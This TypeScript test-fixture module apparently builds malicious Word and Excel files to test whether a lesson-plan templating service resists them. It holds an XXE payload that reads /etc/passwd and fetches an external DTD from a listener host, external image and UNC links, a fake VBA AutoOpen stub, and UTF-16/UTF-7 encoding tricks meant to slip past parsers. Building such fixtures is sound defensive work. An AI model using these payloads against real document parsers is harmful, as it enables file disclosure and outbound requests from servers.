import {
  CT,
  cell,
  docx,
  drawing,
  entriesOf,
  fieldChar,
  headRow,
  instr,
  type Parts,
  para,
  type Relations,
  row,
  run,
  story,
  table,
  text,
  type Xlsx,
  XML,
  xlsx,
} from './ooxml.js';
import { type Entry, png, zip } from './zip-by-hand.js';

/** `marker`: what must stand nowhere but in visible text. `objective`: what a teacher types into the plan. */
export type Attack = Readonly<{
  id: string;
  attempts: string;
  bytes: Buffer;
  marker: string;
  objective: string;
}>;
export type Attacked = Parts | readonly Entry[] | Buffer;

let server = '127.0.0.1:9';
/** Where whatever is fetched is heard. */
export function listenAt(address: string): void {
  server = address;
}

export const mark = (id: string) => `jahat-${id}`;
export const web = (id: string) => `http://${server}/${mark(id)}`;
export const unc = (id: string) => `\\\\127.0.0.1\\${mark(id)}\\x`;
const TOKENS = {
  className: 'kelas',
  subject: 'mata_pelajaran',
  objective: 'objektif',
  activities: 'aktiviti',
  reflection: 'refleksi',
};
export type Token = keyof typeof TOKENS;
export const braces = (token: Token) => `{{${TOKENS[token]}}}`;
export const PIXEL = png(2, 2);
/** The honest body that each attack stands in: the control has it alone. */
export const BODY = `${table([row([cell(text('Kelas')), cell(text(braces('className')))]), row([cell(text('Objektif')), cell(text(braces('objective')))])])}<w:p/>`;
export const d = (extra = '', more: Parameters<typeof docx>[0] = {}) => docx({ body: BODY + extra, ...more });
export const x = (more: Xlsx = {}) => xlsx({ ...more, rows: headRow() + (more.rows ?? '') });

export function attackOn(
  id: string,
  attempts: string,
  made: Attacked,
  objective = 'Murid dapat menyatakan tiga bahan.',
): Attack {
  const bytes = Buffer.isBuffer(made) ? made : zip(isEntries(made) ? made : entriesOf(made));
  return { id, attempts, bytes, marker: mark(id), objective };
}
const isEntries = (made: Parts | readonly Entry[]): made is readonly Entry[] => Array.isArray(made);

export const external = (id: string, type: string, where = web(id), mode = 'External'): Relations => [
  ['rId66', type, where, mode],
];
export const renamed = (parts: Parts, names: Readonly<Record<string, string>>): Entry[] =>
  entriesOf(parts).map(({ name, data }) => ({ name: names[name] ?? name, data }));
export const utf16 = (xml: Entry['data'], bom = true) =>
  Buffer.from((bom ? '\ufeff' : '') + String(xml).replace('UTF-8', 'UTF-16'), 'utf16le');
export const utf16be = (xml: Entry['data']) => utf16(xml).swap16();
export const letters = (words: string) => [...words].map((letter) => instr(letter)).join('');
export const complex = (code: string, shown = 'x') =>
  fieldChar('begin') + code + fieldChar('separate') + run(shown) + fieldChar('end');
export const settings = (inner: string) => story('settings', inner);
export const SETTINGS = {
  overrides: { '/word/settings.xml': CT.settings },
  relations: [['rId50', 'settings', 'settings.xml']],
};
export const VBA = (marker: string) =>
  Buffer.concat([
    Buffer.from('d0cf11e0a1b11ae1', 'hex'),
    Buffer.from(`Attribute VB_Name Sub AutoOpen ${marker}`),
  ]);
/** An honest one, and one with a picture from outside. */
export const plain = (id: string, more = {}): [Parts, Parts] => [
  d(),
  d(para(drawing('rId66', 'link')), { relations: external(id, 'image'), ...more }),
];
const XXE = (id: string, root: string) =>
  `<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE ${root} [<!ENTITY % p SYSTEM "${web(id)}.dtd"> %p; <!ENTITY e SYSTEM "file:///etc/passwd"><!ENTITY m "${mark(id)}">]>\n`;
export const doctype = (parts: Parts, names: readonly string[], id: string): Parts =>
  Object.fromEntries(
    Object.entries(parts).map(([name, data]) => [
      name,
      names.includes(name)
        ? String(data).replace(XML, XXE(id, /<([\w:]+)[ >]/.exec(String(data))?.[1] ?? 'x'))
        : data,
    ]),
  );
export const utf7 = (xml: string) =>
  xml.replace(/[<>"&=]/g, (sign) => `+${utf16be(sign).subarray(2).toString('base64').replace(/=+$/, '')}-`);

/** Each of these parts in UTF-16, stored, of a length of 16n + 9, so that its bytes begin at odd (1) or even (0) places. */
export function odd(parts: Parts, names: readonly string[], parity: number): Entry[] {
  let at = 0;
  return entriesOf(parts).map(({ name, data }) => {
    const isWide = names.includes(name);
    let wide = isWide ? utf16(data) : Buffer.from(data ?? '');
    while (isWide && wide.length % 16 !== 8) wide = Buffer.concat([wide, Buffer.from(' ', 'utf16le')]);
    if (isWide) wide = Buffer.concat([wide, Buffer.from(' ')]);
    const start = at + 30 + Buffer.byteLength(name);
    const extra = start % 2 === parity ? '' : '\0'.repeat(5);
    at = start + extra.length + wide.length;
    return { name, data: wide, store: true, extra };
  });
}
